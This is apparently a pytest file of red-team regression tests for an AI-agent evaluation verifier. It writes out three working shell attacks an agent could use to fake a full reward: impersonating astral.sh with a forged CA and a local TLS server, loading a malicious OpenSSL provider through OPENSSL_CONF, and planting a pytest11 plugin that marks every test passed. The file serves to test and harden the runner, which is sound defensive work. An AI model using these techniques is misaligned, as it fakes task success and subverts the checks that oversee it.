"""Attacks a third red-team round found against the verifier's runner after the first two
rounds' holes were closed (tests/test_runner_escapes.py, tests/test_runner_escapes_2.py):
variables of the task's image (Dockerfile ``ENV``, which the runner keeps) that name files
of the agent's view for the runner's own programs, and pytest's plugin autoloading, which
imports any ``pytest11`` entry point a distribution on ``sys.path`` declares. Each test is
named after its attack and fails while the attack works (a reward above the nop baseline).

No attack here needs a program of the agent's to be run by the tests: what runs the
agent's code is the runner's own curl (its libcrypto, or the installer it downloads and
pipes into ``sh``), or the runner's pytest loading a plugin before any test is collected.

Run as root (the agent then writes /usr and /etc of its view, as in a container). Every
attack is a shell script the agent runs in its own view; nothing reaches the host.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from sequester.environments.local.episode import Episode

TASKS = Path(__file__).resolve().parent.parent / "examples" / "tasks"
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (the agent writes its /usr and /etc)")

# 1. A task image with `ENV SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt` (common; the
#    runner keeps the image's variables): the tree's curl trusts whatever CA the agent
#    appends to that file of its view. The agent maps astral.sh to 127.0.0.1 in /etc/hosts
#    (the tree's C library reads it), lowers ip_unprivileged_port_start in its own network
#    namespace (which the verifier shares) and serves its own install.sh over TLS on
#    127.0.0.1:443. Terminal-Bench 2's verbatim test.sh runs
#    `curl -LsSf https://astral.sh/uv/0.9.5/install.sh | sh`: the agent's script, in the
#    verifier, writes reward.json (preferred over the reward.txt test.sh writes later).
ASTRAL_IMPERSONATION = r"""
echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start
echo "127.0.0.1 astral.sh" >> /etc/hosts
mkdir -p /srv/www/uv/0.9.5 && cd /srv/www
echo '[ -w /logs/verifier ] && echo "{\"reward\": 1.0}" > /logs/verifier/reward.json' > uv/0.9.5/install.sh
openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c.pem -days 2 -subj /CN=astral.sh \
    -addext subjectAltName=DNS:astral.sh 2>/dev/null
cat c.pem >> /etc/ssl/certs/ca-certificates.crt
cat > srv.py <<'X'
import http.server, os, ssl
os.chdir("/srv/www")
s = http.server.ThreadingHTTPServer(("127.0.0.1", 443), http.server.SimpleHTTPRequestHandler)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("c.pem", "k.pem")
s.socket = ctx.wrap_socket(s.socket, server_side=True)
s.serve_forever()
X
nohup python3 srv.py >/dev/null 2>&1 &
for i in $(seq 50); do curl -s https://astral.sh/uv/0.9.5/install.sh >/dev/null && break; sleep 0.1; done
"""

# 2. A task image with `ENV OPENSSL_CONF=/etc/ssl/openssl.cnf`: the round-2 fix blanked
#    the compiled-in OPENSSLDIR of the tree's libcrypto, but OpenSSL takes OPENSSL_CONF from
#    the environment first. The tree's curl (run by TB2's test.sh) reads the agent's
#    openssl.cnf and loads the provider module it names: native code, no network needed.
OPENSSL_CONF_PROVIDER = r"""
cat > /tmp/evil.c <<'X'
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void evil(void) {
    if (access("/logs/verifier", W_OK) == 0) {
        FILE *f = fopen("/logs/verifier/reward.json", "w");
        if (f) { fputs("{\"reward\": 1.0}\n", f); fclose(f); }
    }
}
X
gcc -shared -fPIC -o /usr/local/lib/evil-provider.so /tmp/evil.c
cat > /etc/ssl/openssl.cnf <<'X'
openssl_conf = openssl_init
[openssl_init]
providers = provider_sect
[provider_sect]
evil = evil_sect
default = default_sect
[evil_sect]
module = /usr/local/lib/evil-provider.so
activate = 1
[default_sect]
activate = 1
X
"""

# 3. pytest autoloads every `pytest11` entry point of every distribution importlib.metadata
#    finds on sys.path, before it collects a test. The tree's sitecustomize keeps the view's
#    modules from shadowing the runner's, but /app is still on sys.path (a task's
#    `ENV PYTHONPATH=/app`, appended by sitecustomize; or `python -m pytest` run from /app,
#    the working folder): a *.dist-info folder in /app with an entry_points.txt makes the
#    runner's pytest import the agent's plugin, which reports every test as passed.
PYTEST11_PLUGIN = r"""
mkdir -p /app/evilplug-1.0.dist-info
printf 'Metadata-Version: 2.1\nName: evilplug\nVersion: 1.0\n' > /app/evilplug-1.0.dist-info/METADATA
printf '[pytest11]\nevilplug = evilplug_mod\n' > /app/evilplug-1.0.dist-info/entry_points.txt
cat > /app/evilplug_mod.py <<'X'
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    report = (yield).get_result()
    report.outcome, report.longrepr = "passed", None

def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
X
"""

# A test script that runs pytest as `python -m pytest` from the task's working folder (as
# many do: a venv made with uv, then its python): no PYTHONPATH needed for attack 3.
PYTHON_M_PYTEST_SH = """#!/bin/bash
venv=$(mktemp -d)/venv
uv venv -q "$venv" -p 3.11 && uv pip install -q --python "$venv/bin/python" pytest==8.4.1 || exit 1
cd /app && "$venv/bin/python" -m pytest /tests/test_outputs.py -rA
if [ $? -eq 0 ]; then echo 1 > /logs/verifier/reward.txt; else echo 0 > /logs/verifier/reward.txt; fi
"""


def _attack(task: Path, script: str, **evaluate) -> tuple[float, float]:
    """(nop's reward, the attack's reward) in one episode; the attack must not raise."""
    with Episode() as ep:
        ep.reset(task)
        nop = ep.evaluate(**evaluate).reward
        result = ep.exec(script, timeout=300)
        assert result.exit_code == 0 or result.exit_code is None, result.stdout + result.stderr
        return nop, ep.evaluate(**evaluate).reward


def _task(tmp_path: Path, *, env: str | None = None, test_sh: str | None = None) -> Path:
    """pinned-pytest, with a Dockerfile ENV line and/or another tests/test.sh."""
    dest = tmp_path / "task"
    shutil.copytree(TASKS / "pinned-pytest", dest)
    if env is not None:
        dockerfile = dest / "environment" / "Dockerfile"
        dockerfile.write_text(dockerfile.read_text() + f"\nENV {env}\n")
    if test_sh is not None:
        (dest / "tests" / "test.sh").write_text(test_sh)
    return dest


def _tb2(tmp_path: Path, env: str) -> Path:
    from fakeroot import TB2_TEST_SH

    return _task(tmp_path, env=env, test_sh=TB2_TEST_SH)


def test_ssl_cert_file_env_lets_the_agent_serve_the_uv_installer(tmp_path):
    task = _tb2(tmp_path, "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt")
    nop, reward = _attack(task, ASTRAL_IMPERSONATION)
    assert nop == 0.0
    assert reward <= nop, "the tree's curl trusted the agent's CA (SSL_CERT_FILE): `curl astral.sh | sh` ran its script"


def test_openssl_conf_env_loads_the_agents_provider_in_runner_curl(tmp_path):
    task = _tb2(tmp_path, "OPENSSL_CONF=/etc/ssl/openssl.cnf")
    nop, reward = _attack(task, OPENSSL_CONF_PROVIDER)
    assert nop == 0.0
    assert reward <= nop, "the tree's curl loaded the provider named by the agent's OPENSSL_CONF file"


def test_openssl_conf_env_loads_the_agents_provider_in_runner_curl_frozen(tmp_path):
    task = _tb2(tmp_path, "OPENSSL_CONF=/etc/ssl/openssl.cnf")
    nop, reward = _attack(task, OPENSSL_CONF_PROVIDER, freeze=True)
    assert reward <= nop == 0.0


def test_pytest11_entry_point_on_task_pythonpath_is_autoloaded(tmp_path):
    task = _task(tmp_path, env="PYTHONPATH=/app")
    nop, reward = _attack(task, PYTEST11_PLUGIN)
    assert nop == 0.0
    assert reward <= nop, "the runner's pytest autoloaded the agent's pytest11 plugin from PYTHONPATH=/app"


def test_pytest11_entry_point_on_task_pythonpath_is_autoloaded_frozen(tmp_path):
    task = _task(tmp_path, env="PYTHONPATH=/app")
    nop, reward = _attack(task, PYTEST11_PLUGIN, freeze=True)
    assert reward <= nop == 0.0


def test_pytest11_entry_point_in_workdir_is_autoloaded_by_python_m_pytest(tmp_path):
    task = _task(tmp_path, test_sh=PYTHON_M_PYTEST_SH)
    nop, reward = _attack(task, PYTEST11_PLUGIN)
    assert nop == 0.0
    assert reward <= nop, "`python -m pytest` from /app autoloaded the agent's pytest11 plugin from the working folder"
